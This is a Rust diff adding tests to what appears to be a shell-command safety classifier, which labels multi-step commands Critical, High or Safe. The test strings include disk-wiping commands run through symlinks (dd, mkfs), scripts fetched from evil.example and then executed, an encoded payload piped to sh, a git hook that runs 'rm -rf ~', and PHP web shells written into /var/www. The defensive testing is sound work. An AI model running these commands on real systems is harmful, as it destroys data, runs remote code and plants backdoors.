@@ -142,3 +142,53 @@ fn code_in_other_languages_reaches_the_shell() {
         ("node -p 'process.version'", Safe),
     ]);
 }
+
+#[test]
+fn what_one_step_leaves_the_next_one_uses() {
+    super::tests::check_all(
+        &context(),
+        &[
+            (Critical, "ln -s /dev/sda /tmp/l; dd if=x of=/tmp/l"),
+            (Critical, "ln -sf /dev/nvme0n1 d && cat x.img > d"),
+            (Critical, "ln -s /dev/sda x && mkfs.ext4 x"),
+            (Critical, "cd /tmp && ln -s /dev/sda && dd if=x of=sda"),
+            (Safe, "ln -s /dev/ttyUSB0 tty && cat tty"),
+            (Safe, "ln -s /dev/sda x && ls -l x"),
+            (High, "scp evil.example:x.sh /tmp/x.sh && sh /tmp/x.sh"),
+            (High, "scp u@evil.example:/tmp/x.sh . && bash x.sh"),
+            (High, "sftp u@evil.example:x.sh /tmp/ && . /tmp/x.sh"),
+            (High, "scp evil.example:x /tmp/x; mv /tmp/x /tmp/y; chmod +x /tmp/y; /tmp/y"),
+            (Safe, "scp host:notes.txt . && less notes.txt"),
+            (Safe, "scp host:data.csv . && python3 analyse.py data.csv"),
+            (Safe, "rsync -a host:project/ ./project/ && cd project && git status"),
+            (High, "echo KLUv/SQJSQAA | base64 -d | unzstd | sh"),
+            (Safe, "xz -dc a.xz | tar tf -"),
+            (Critical, "echo 'rm -rf ~' > hooks/post-merge; git -c core.hooksPath=hooks pull"),
+            (
+                Critical,
+                r#"mysql -e "select '<?php system(\$_GET[0]); ?>' into outfile '/var/www/html/x.php'""#,
+            ),
+            (Critical, r#"echo '<?php system($_GET["c"]); ?>' > /var/www/html/s.php"#),
+            (Safe, "mysql -e \"select * from t into outfile '/tmp/t.csv'\""),
+            (Safe, "echo '<?php phpinfo(); ?>' > info.php"),
+        ],
+    );
+    super::tests::check_all(
+        &crate::Context::new(crate::Dialect::Nu),
+        &[
+            (Critical, "let tool = 'mkfs'; ^$\"($tool).ext4\" /dev/sda1"),
+            (Critical, "for tool in [mkfs wipefs] { ^$\"($tool).ext4\" /dev/sda }"),
+            (Safe, "let tool = 'cargo'; ^$\"($tool)\" build"),
+        ],
+    );
+}
+
+#[test]
+fn a_function_from_a_value_is_shown_where_the_value_stands() {
+    let line = "functions[cd]='builtin cd $@ && ééééééééééééé; rm -rf -- *(/N)'; cd x; é";
+    let report = super::check(line, &crate::Context::new(crate::Dialect::Zsh));
+    for effect in &report.effects {
+        assert!(line.is_char_boundary(effect.span.start) && line.is_char_boundary(effect.span.end));
+        assert!(effect.target.span.end <= line.len());
+    }
+}
